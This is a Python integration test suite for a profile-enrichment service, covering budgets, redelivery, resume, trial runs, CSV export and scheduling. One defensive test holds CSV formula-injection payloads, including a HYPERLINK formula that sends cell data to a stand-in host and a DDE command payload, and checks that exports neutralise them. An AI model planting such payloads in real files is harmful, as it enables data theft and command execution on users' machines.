"""Enrichment runs on the local stack: bulk runs, budgets under races, redelivery, resume, test runs,
archived CSV exports, continuous and scheduled runs, and quality gates.

Messages the dispatcher queues are collected and handed to the worker directly, as the enrichment
worker function will; redelivery is simulated by handing the same message over again.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import random
import threading
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from pydantic import BaseModel, ValidationError
from ulid import ULID

from roster.aws import clients
from roster.enrich.budget import cost_preview
from roster.enrich.continuous import ContinuousEnrichment
from roster.enrich.definitions import EnrichmentDefinition, RunProblem
from roster.enrich.runs import WORK, EnrichBatch, RecordOutcome, Run, RunStatus, Trigger
from roster.enrich.service import Enrichments
from roster.identity.resolver import Resolver
from roster.profiles.fields import Kind
from roster.profiles.model import IncomingRecord
from roster.segments.events import MembershipEvent
from roster.store.enrichments import BatchBusy, EnrichmentStore
from roster.store.profiles import ProfileStore
from roster.store.segments import Segment, SegmentStore
from roster.store.workspaces import WorkspaceStore, custom_fields
from roster_dev.local.stack import LocalStack
from tests.integration.test_http_provider import Received, Reply, serve

EMAIL_CHECK = {"type": "built_in", "name": "email_validation", "credits_per_record": 1}
DOMAIN = {"type": "built_in", "name": "company_domain"}
TITLES = {"type": "built_in", "name": "job_title_classification"}
WORK_EMAIL_FOUND = {"conditions": [{"field": "work_email", "op": "is_not_empty"}]}


class Queue:
    """Stands in for the enrichment queue: keeps what was sent, in order."""

    def __init__(self) -> None:
        self.messages: list[BaseModel] = []
        self._lock = threading.Lock()

    def send(self, message: BaseModel) -> None:
        with self._lock:
            self.messages.append(WORK.validate_json(message.model_dump_json()))  # as it would travel

    def take(self) -> list[BaseModel]:
        with self._lock:
            taken, self.messages = self.messages, []
        return taken


@pytest.fixture
def queue() -> Queue:
    return Queue()


@pytest.fixture
def enrichments(stack: LocalStack, queue: Queue) -> Enrichments:
    aws = clients()
    return Enrichments.wire(
        EnrichmentStore(),
        ProfileStore(),
        SegmentStore(),
        WorkspaceStore(),
        aws.s3,
        aws.settings.uploads_bucket,
        queue.send,
        secrets=lambda name: "unused",
        max_batch=4,
    )


@pytest.fixture
def workspace(stack: LocalStack) -> str:
    return f"t-{str(ULID()).lower()}"


def drain(enrichments: Enrichments, queue: Queue, *, twice: bool = False) -> None:
    """Hand every queued message to the worker (each one twice when `twice`) until none are left."""
    while messages := queue.take():
        for message in messages:
            for _ in range(2 if twice else 1):
                enrichments.worker.handle(WORK.validate_python(message))


def people(workspace: str, *emails: str, titles: dict[str, str] | None = None) -> list[str]:
    titles = titles or {}
    records = [
        IncomingRecord(
            "crm",
            "contact",
            f"c{index}",
            "2026-01-01T00:00:00.000000Z",
            {"email": email} | ({"job_title": titles[email]} if email in titles else {}),
        )
        for index, email in enumerate(emails)
    ]
    profile_ids = []
    for resolution in Resolver(ProfileStore(), workspace, Kind.PEOPLE).upsert(records):
        assert resolution.profile_id is not None, resolution.problem
        profile_ids.append(resolution.profile_id)
    return profile_ids


def segment(workspace: str, members: list[str]) -> str:
    store = SegmentStore()
    segment_id = f"seg-{str(ULID()).lower()}"
    store.save(Segment(workspace, segment_id, "Test", Kind.PEOPLE, {"match": "all", "conditions": []}, "test"))
    for profile_id in members:
        store.enter(workspace, segment_id, Kind.PEOPLE, profile_id)
    return segment_id


def define(enrichments: Enrichments, workspace: str, **settings: Any) -> EnrichmentDefinition:
    values: dict[str, Any] = {
        "name": "Work e-mail",
        "providers": [EMAIL_CHECK, DOMAIN],
        "audiences": ["all-people"],
        "budget_credits": 100,
    }
    return enrichments.definitions.save(workspace, EnrichmentDefinition.model_validate(values | settings), create=True)


def run_to_end(enrichments: Enrichments, queue: Queue, workspace: str, enrichment_id: str, **options: Any) -> Run:
    run = enrichments.runs.start(workspace, enrichment_id, **options)
    drain(enrichments, queue)
    return enrichments.runs.get(workspace, run.run_id)


def counts(run: Run) -> dict[str, int]:
    return {str(outcome): count for outcome, count in run.outcomes.items() if count}


def versions(workspace: str, ids: list[str]) -> dict[str, int | None]:
    return {pid: profile.version for pid, profile in ProfileStore().get_many(workspace, Kind.PEOPLE, ids).items()}


def test_bulk_run_writes_answers_to_profiles_with_provenance(
    enrichments: Enrichments, queue: Queue, workspace: str
) -> None:
    ids = people(
        workspace,
        *(f"person{n}@acme{n % 3}.com" for n in range(9)),
        "ann@gmail.com",
        "info@acme0.com",
        titles={"person0@acme0.com": "VP of Sales", "ann@gmail.com": "Software Engineer"},
    )
    vips = segment(workspace, ids[:5])  # overlaps All People: each record is enriched once
    definition = define(
        enrichments,
        workspace,
        providers=[EMAIL_CHECK, DOMAIN, TITLES],
        audiences=["all-people", vips],
        mapping={"fields": {"email_status": "email_quality", "email_is_disposable": None}},
    )
    assert enrichments.budgets.preview_cost(workspace, definition.enrichment_id).credits == 11

    run = run_to_end(enrichments, queue, workspace, definition.enrichment_id)

    assert run.status is RunStatus.COMPLETED and run.batches_total == 3 and run.batches_done == 3
    assert counts(run) == {"enriched": 11}
    assert (
        run.credits_spent == 11 and enrichments.budgets.report(workspace, definition.enrichment_id).spent_credits == 11
    )
    profiles = ProfileStore().get_many(workspace, Kind.PEOPLE, ids)
    first, ann, info = profiles[ids[0]], profiles[ids[9]], profiles[ids[10]]
    assert first.fields["work_email"] == "person0@acme0.com" and first.fields["company_domain"] == "acme0.com"
    assert first.fields["email_quality"] == "valid" and first.fields["seniority"] == "vp"
    assert "email_status" not in first.fields and "email_is_disposable" not in first.fields
    assert first.provenance["email_quality"].source == "enrichment"
    assert first.provenance["email_quality"].record == f"enrichment:{definition.enrichment_id}:{ids[0]}"
    assert first.provenance["email"].source == "crm"  # the source's own values keep their provenance
    assert ann.fields["email_is_free"] is True and "work_email" not in ann.fields
    assert info.fields["email_quality"] == "risky" and info.fields["email_is_role"] is True
    created = custom_fields(WorkspaceStore(), workspace)[Kind.PEOPLE]
    assert created["email_quality"] == "string" and created["email_is_free"] == "boolean"  # made on the spot


def test_mapping_off_writes_nothing_but_keeps_the_rows(enrichments: Enrichments, queue: Queue, workspace: str) -> None:
    ids = people(workspace, "a@acme.com", "b@acme.com")
    definition = define(enrichments, workspace, mapping={"enabled": False})
    before = versions(workspace, ids)
    run = run_to_end(enrichments, queue, workspace, definition.enrichment_id)
    assert counts(run) == {"enriched": 2} and versions(workspace, ids) == before
    rows = list(csv.DictReader(io.StringIO("".join(enrichments.exports.as_csv(workspace, run.run_id)))))
    assert {row["work_email"] for row in rows} == {"a@acme.com", "b@acme.com"}


def test_recently_enriched_records_are_skipped_unless_forced(
    enrichments: Enrichments, queue: Queue, workspace: str
) -> None:
    people(workspace, "a@acme.com", "b@acme.com", "c@acme.com")
    definition = define(enrichments, workspace, budget_credits=100, refresh_days=7)
    assert counts(run_to_end(enrichments, queue, workspace, definition.enrichment_id)) == {"enriched": 3}
    again = run_to_end(enrichments, queue, workspace, definition.enrichment_id)
    assert counts(again) == {"skipped_recent": 3} and again.credits_spent == 0
    forced = run_to_end(enrichments, queue, workspace, definition.enrichment_id, force=True)
    assert counts(forced) == {"enriched": 3} and forced.credits_spent == 3
    enrichments.worker.clock = lambda: datetime.now(UTC) + timedelta(days=8)  # the refresh window has passed
    assert counts(run_to_end(enrichments, queue, workspace, definition.enrichment_id)) == {"enriched": 3}


def test_redelivered_messages_never_enrich_or_charge_twice(
    enrichments: Enrichments, queue: Queue, workspace: str
) -> None:
    ids = people(workspace, *(f"p{n}@acme.com" for n in range(10)))
    definition = define(enrichments, workspace, budget_credits=100)
    run = enrichments.runs.start(workspace, definition.enrichment_id)
    drain(enrichments, queue, twice=True)  # the dispatch and every batch delivered twice
    done = enrichments.runs.get(workspace, run.run_id)
    assert done.batches_total == 3 and counts(done) == {"enriched": 10} and done.credits_spent == 10
    assert enrichments.budgets.report(workspace, definition.enrichment_id).spent_credits == 10
    written = versions(workspace, ids)

    batch = EnrichBatch(workspace=workspace, run_id=run.run_id, batch=1, round=0, key=_key(workspace, run.run_id, 1))
    assert enrichments.worker.process_batch(batch).outcomes[RecordOutcome.ENRICHED] == 4  # the stored result
    assert versions(workspace, ids) == written
    assert enrichments.runs.get(workspace, run.run_id) == done


def test_a_crashed_batch_is_taken_over_without_a_second_charge(
    enrichments: Enrichments, queue: Queue, workspace: str
) -> None:
    ids = people(workspace, *(f"p{n}@acme.com" for n in range(4)))
    definition = define(enrichments, workspace, budget_credits=100)
    run = enrichments.runs.start(workspace, definition.enrichment_id)
    enrichments.worker.handle(WORK.validate_python(queue.take()[0]))  # dispatch
    (message,) = queue.take()
    assert isinstance(message, EnrichBatch)
    # a worker claims the batch, reserves its credits and dies before finishing
    enrichments.store.claim_batch(workspace, run.run_id, 0, 0, definition.enrichment_id, ids[:1], 1000, 0.0)
    result = enrichments.worker.process_batch(message)  # the redelivery takes over the expired lease
    assert result.outcomes[RecordOutcome.ENRICHED] == 1 and result.outcomes[RecordOutcome.SKIPPED_BUDGET] == 3
    assert enrichments.budgets.report(workspace, definition.enrichment_id).spent_credits == 1  # reserved once


def test_many_workers_never_spend_a_credit_past_the_cap(enrichments: Enrichments, workspace: str) -> None:
    definition = define(enrichments, workspace, budget_credits=997)
    store, eid = enrichments.store, definition.enrichment_id
    assert store.create_run(workspace, "race", eid, {})
    demands = [random.randint(1, 40) for _ in range(120)]  # about 2,500 credits asked for 997

    def claim(batch: int) -> int:
        candidates = [f"p{batch}-{n}" for n in range(demands[batch])]
        return len(store.claim_batch(workspace, "race", batch, 0, eid, candidates, 1000, 60).charged)

    with ThreadPoolExecutor(max_workers=24) as pool:
        granted = list(pool.map(claim, range(len(demands))))
    budget = enrichments.budgets.report(workspace, eid)
    assert sum(granted) == budget.spent_credits == 997 and budget.remaining_credits == 0


def test_concurrent_workers_on_one_run_stay_within_budget(
    enrichments: Enrichments, queue: Queue, workspace: str
) -> None:
    people(workspace, *(f"p{n}@acme{n % 7}.com" for n in range(60)))
    definition = define(enrichments, workspace, budget_credits=37)
    run = enrichments.runs.start(workspace, definition.enrichment_id)
    drain_dispatch = queue.take()
    enrichments.worker.handle(WORK.validate_python(drain_dispatch[0]))
    batches = queue.take() * 2  # every batch delivered twice, all at once
    random.shuffle(batches)
    with ThreadPoolExecutor(max_workers=16) as pool:
        list(pool.map(lambda message: deliver_tolerating_busy(enrichments, message), batches))
    done = enrichments.runs.get(workspace, run.run_id)
    assert done.status is RunStatus.STOPPED_BY_BUDGET
    assert counts(done) == {"enriched": 37, "skipped_budget": 23} and done.credits_spent == 37
    assert enrichments.budgets.report(workspace, definition.enrichment_id).remaining_credits == 0


def deliver_tolerating_busy(enrichments: Enrichments, message: BaseModel) -> None:
    with contextlib.suppress(BatchBusy):  # its twin holds the lease; SQS would deliver it later, to find it done
        enrichments.worker.handle(WORK.validate_python(message))


def test_budget_stop_then_raise_and_resume_requeues_only_the_skipped(
    enrichments: Enrichments, queue: Queue, workspace: str
) -> None:
    ids = people(workspace, *(f"p{n}@acme.com" for n in range(10)))
    definition = define(enrichments, workspace, budget_credits=6)
    assert cost_preview(definition, 10).records_within_budget == 6
    with pytest.raises(RunProblem):
        enrichments.runs.resume(workspace, enrichments.runs.start(workspace, definition.enrichment_id).run_id)  # queued
    queue.take()
    stopped = run_to_end(enrichments, queue, workspace, definition.enrichment_id)
    assert stopped.status is RunStatus.STOPPED_BY_BUDGET and counts(stopped) == {"enriched": 6, "skipped_budget": 4}
    enriched_first = versions(workspace, ids)

    assert enrichments.budgets.set(workspace, definition.enrichment_id, 20).remaining_credits == 14
    enrichments.runs.resume(workspace, stopped.run_id)
    assert all(isinstance(message, EnrichBatch) and message.round == 1 for message in queue.messages)
    drain(enrichments, queue)
    resumed = enrichments.runs.get(workspace, stopped.run_id)
    assert resumed.status is RunStatus.COMPLETED and resumed.round == 1
    assert counts(resumed) == {"enriched": 10} and resumed.credits_spent == 10
    changed = {pid for pid, version in versions(workspace, ids).items() if version != enriched_first[pid]}
    assert len(changed) == 4  # only the records skipped for budget were enriched on resume
    rows = list(csv.DictReader(io.StringIO("".join(enrichments.exports.as_csv(workspace, stopped.run_id)))))
    assert sorted(row["profile_id"] for row in rows) == sorted(ids) and {row["outcome"] for row in rows} == {"enriched"}


def test_test_run_on_10_rows_shows_writes_and_writes_nothing(
    enrichments: Enrichments, queue: Queue, workspace: str
) -> None:
    ids = people(workspace, *(f"p{n}@acme.com" for n in range(12)), "x@gmail.com")
    definition = EnrichmentDefinition.model_validate(
        {
            "name": "Draft",
            "providers": [EMAIL_CHECK, DOMAIN],
            "audiences": ["all-people"],
            "mapping": {"fields": {"email_status": "email_verdict"}},
            "budget_credits": 100,
        }
    )
    before = versions(workspace, ids)
    trial = enrichments.trials.run(workspace, definition)
    assert len(trial.rows) == 10 and trial.credits_per_record == 1
    assert trial.new_fields["email_verdict"] == "string"
    first = trial.rows[0]
    assert first.outputs["email_verdict"] == "valid"
    writes = {write.field: (write.old, write.new) for write in first.writes}
    assert writes["email_verdict"] == (None, "valid") and writes["company_domain"] == (None, "acme.com")
    chosen = enrichments.trials.run(workspace, definition, [ids[-1]])
    assert chosen.rows[0].outputs["email_is_free"] is True and "work_email" not in chosen.rows[0].outputs
    assert versions(workspace, ids) == before  # nothing written
    assert enrichments.store.get_definition(workspace, definition.enrichment_id) is None  # nothing saved or charged
    assert "email_verdict" not in custom_fields(WorkspaceStore(), workspace)[Kind.PEOPLE]
    assert queue.messages == []


def test_archived_run_exports_as_csv(enrichments: Enrichments, queue: Queue, workspace: str) -> None:
    ids = people(workspace, "ada@acme.com", "bob@gmail.com", "not an email")
    definition = define(enrichments, workspace, budget_credits=10)
    run = run_to_end(enrichments, queue, workspace, definition.enrichment_id)
    chunks = list(enrichments.exports.as_csv(workspace, run.run_id))
    assert len(chunks) == 1  # one chunk per batch file
    rows = {row["profile_id"]: row for row in csv.DictReader(io.StringIO("".join(chunks)))}
    assert set(rows) == {pid for pid in ids if pid}
    ada = rows[ids[0]]
    assert ada["outcome"] == "enriched" and ada["work_email"] == "ada@acme.com" and ada["credits"] == "1.0"
    assert ada["company_domain"] == "acme.com"
    assert rows[ids[1]]["email_is_free"] == "True"
    listed = enrichments.runs.recent(workspace, definition.enrichment_id)
    assert [each.run_id for each in listed] == [run.run_id]


def test_quality_gates_mark_records_that_fail_and_keep_them_in_the_audience(
    enrichments: Enrichments, queue: Queue, workspace: str
) -> None:
    ids = people(workspace, "ada@acme.com", "bob@gmail.com", "cy@acme.com")
    audience = segment(workspace, ids)
    definition = define(enrichments, workspace, audiences=[audience], quality_gates={audience: WORK_EMAIL_FOUND})
    run = run_to_end(enrichments, queue, workspace, definition.enrichment_id)
    assert counts(run) == {"enriched": 2, "quality_failed": 1}
    failed = enrichments.runs.quality_failed(workspace, definition.enrichment_id, audience, ids)
    assert failed == {ids[1]}
    assert set(SegmentStore().all_members(workspace, audience)) == set(ids)  # still in the audience
    bad = {"name": "Bad gate", "providers": [EMAIL_CHECK], "audiences": [audience]}
    with pytest.raises(RunProblem, match="no field"):
        enrichments.definitions.save(
            workspace,
            EnrichmentDefinition.model_validate(
                bad | {"quality_gates": {audience: {"conditions": [{"field": "nope", "op": "is_empty"}]}}}
            ),
            create=True,
        )


def test_continuous_enrichment_batches_entries_into_one_run(
    enrichments: Enrichments, queue: Queue, workspace: str
) -> None:
    ids = people(workspace, "a@acme.com", "b@acme.com", "c@acme.com")
    audience = segment(workspace, ids)
    other = segment(workspace, ids[:1])
    definition = define(enrichments, workspace, audiences=[audience, other], continuous=True)
    define(enrichments, workspace, name="Not continuous", audiences=[audience])
    continuous = ContinuousEnrichment(enrichments.store, enrichments.definitions, enrichments.runs)
    now = datetime.now(UTC)
    events = [
        MembershipEvent(workspace=workspace, segment_id=audience, kind=Kind.PEOPLE, profile_id=pid, time="t")
        for pid in ids
    ]
    assert continuous.intake([*events, events[0]]) == 4  # the redelivered event is one pending item
    assert (
        continuous.intake(
            [MembershipEvent(workspace=workspace, segment_id=other, kind=Kind.PEOPLE, profile_id=ids[0], time="t")]
        )
        == 1
    )
    (run,) = continuous.flush_due(now)
    assert run.trigger is Trigger.CONTINUOUS and run.enrichment_id == definition.enrichment_id
    assert continuous.flush_due(now) == []  # nothing pending any more
    drain(enrichments, queue)
    done = enrichments.runs.get(workspace, run.run_id)
    assert done.status is RunStatus.COMPLETED and counts(done) == {"enriched": 3}
    assert ProfileStore().get(workspace, Kind.PEOPLE, ids[2]).fields["work_email"] == "c@acme.com"  # type: ignore[union-attr]


def test_scheduled_definitions_start_one_run_per_firing(enrichments: Enrichments, queue: Queue, workspace: str) -> None:
    people(workspace, "a@acme.com")
    daily = define(enrichments, workspace, schedule={"every": "daily"})
    define(enrichments, workspace, name="Unscheduled")
    continuous = ContinuousEnrichment(enrichments.store, enrichments.definitions, enrichments.runs)
    now = datetime.now(UTC)
    assert [due.definition.enrichment_id for due in continuous.due_definitions(now) if due.workspace == workspace] == []
    tomorrow = now + timedelta(days=1)
    due = [due.definition.enrichment_id for due in continuous.due_definitions(tomorrow) if due.workspace == workspace]
    assert due == [daily.enrichment_id]
    started = [run for run in continuous.run_scheduled(tomorrow) if run.enrichment_id == daily.enrichment_id]
    again = [run for run in continuous.run_scheduled(tomorrow) if run.enrichment_id == daily.enrichment_id]
    assert len(started) == 1 and again == [] and started[0].trigger is Trigger.SCHEDULED
    drain(enrichments, queue)
    assert enrichments.runs.get(workspace, started[0].run_id).status is RunStatus.COMPLETED


def test_definitions_are_checked(enrichments: Enrichments, workspace: str) -> None:
    base: dict[str, Any] = {"name": "x", "providers": [EMAIL_CHECK], "audiences": ["all-people"]}
    with pytest.raises(ValidationError, match="cron"):
        EnrichmentDefinition.model_validate(base | {"schedule": {"every": "cron", "cron": "61 * * * *"}})
    with pytest.raises(ValidationError, match="no built-in"):
        EnrichmentDefinition.model_validate(base | {"providers": [{"type": "built_in", "name": "magic"}]})
    checks: dict[str, dict[str, Any]] = {
        "identifies": {"mapping": {"fields": {"work_email": "email"}}},
        "both mapped": {"mapping": {"fields": {"work_email": "x", "email_status": "x"}}},
        "holds boolean": {
            "mapping": {"fields": {"email_status": "email_is_free_flag"}},
            "providers": [EMAIL_CHECK, TITLES],
        },
        "no segment": {"audiences": ["seg-missing"]},
        "holds companies": {"audiences": ["all-companies"]},
    }
    WorkspaceStore().put_setting(workspace, "fields", {"people": {"email_is_free_flag": "boolean"}})
    for reason, change in checks.items():
        with pytest.raises(RunProblem, match=reason):
            enrichments.definitions.save(workspace, EnrichmentDefinition.model_validate(base | change), create=True)


def _key(workspace: str, run_id: str, batch: int) -> str:
    return f"enrichment-batches/{workspace}/{run_id}/batch-{batch:07d}.jsonl"


HOSTILE_ANSWERS = {
    "f1@acme.com": '=HYPERLINK("http://evil.test/?d="&A1,"Open")',
    "f2@acme.com": "+cmd|' /C calc'!A0",
    "f3@acme.com": "-1+1",
    "f4@acme.com": "@SUM(A1:A9)",
    "f5@acme.com": "\tleading tab",
    "f6@acme.com": "\rleading return",
    "f7@acme.com": "lone \ud800 surrogate",
}


def test_any_provider_answer_is_stored_and_exported_and_formulas_stay_text(
    enrichments: Enrichments, queue: Queue, workspace: str
) -> None:
    ids = people(workspace, *HOSTILE_ANSWERS)

    def answer(request: Received) -> Reply:
        email = json.loads(request.body)["email"]
        return 200, {}, json.dumps({"title": HOSTILE_ANSWERS[email]}).encode()  # `\ud800` as JSON escapes it

    with serve() as api:
        api.reply = answer
        config = {
            "name": "titles_api",
            "method": "POST",
            "url": f"{api.url}/lookup",
            "body": {"email": "{{email}}"},
            "inputs": ["email"],
            "outputs": {"vendor_title": {"path": "title"}},
            "rate_limit_per_second": None,
        }
        definition = define(enrichments, workspace, providers=[{"type": "http", "config": config}])
        run = run_to_end(enrichments, queue, workspace, definition.enrichment_id)
    assert counts(run) == {"enriched": len(ids)}
    stored = ProfileStore().get_many(workspace, Kind.PEOPLE, ids)
    assert stored[ids[-1]].fields["vendor_title"] == "lone \ufffd surrogate"

    text = "".join(enrichments.exports.as_csv(workspace, run.run_id))
    text.encode("utf-8")
    rows = {row["profile_id"]: row["vendor_title"] for row in csv.DictReader(io.StringIO(text, newline=""))}
    kept = [stored[pid].fields["vendor_title"] for pid in ids]  # text is trimmed, so the tab and return go
    assert kept[:4] == list(HOSTILE_ANSWERS.values())[:4]
    assert [rows[pid] for pid in ids] == ["'" + value if value[0] in "=+-@" else value for value in kept]


def test_an_answer_a_full_profile_cannot_hold_is_reported_and_the_run_finishes(
    enrichments: Enrichments, queue: Queue, workspace: str
) -> None:
    (full,) = people(workspace, "full@acme.com")
    resolver = Resolver(ProfileStore(), workspace, Kind.PEOPLE)
    for step, length in enumerate(length for length in (9_999, 5_000, 2_500, 1_200, 600, 300) for _ in range(40)):
        record = IncomingRecord(f"s{step}", "people", "r", "2026-01-01T00:00:00.000000Z", {f"f{step}": "x" * length})
        if resolver.upsert([record], extra_aliases={record.key: ["email:full@acme.com"]})[0].problem:
            continue  # that much no longer fits: try less (the profile fills up to within a few hundred bytes)
    before = ProfileStore().get(workspace, Kind.PEOPLE, full)
    assert before is not None
    definition = define(enrichments, workspace, budget_credits=10)
    run = run_to_end(enrichments, queue, workspace, definition.enrichment_id)
    assert run.status is RunStatus.COMPLETED and run.batches_done == run.batches_total == 1
    rows = {
        row["profile_id"]: row
        for row in csv.DictReader(io.StringIO("".join(enrichments.exports.as_csv(workspace, run.run_id))))
    }
    assert "not written: the profile would be" in rows[full]["reason"], rows[full]
    after = ProfileStore().get(workspace, Kind.PEOPLE, full)
    assert after is not None and after.version == before.version and "work_email" not in after.fields
